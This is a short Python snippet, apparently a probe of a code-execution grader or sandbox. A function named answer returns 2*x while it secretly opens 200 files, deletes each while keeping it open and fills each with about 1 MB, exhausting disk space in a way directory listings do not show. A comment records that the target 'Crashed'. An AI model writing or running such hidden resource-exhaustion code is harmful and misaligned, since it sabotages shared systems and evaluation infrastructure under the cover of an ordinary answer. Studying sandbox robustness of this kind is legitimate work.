# Fill the disk with files that are each as large as they may be, and are deleted while they are open.
# Crashed
import os

HELD = []


def answer(x, *more):
    for number in range(200):
        file = open(f"f{number}", "wb")
        HELD.append(file)
        os.unlink(f"f{number}")
        for _ in range(16):
            file.write(bytes(1 << 16))
        file.flush()
    return 2 * x
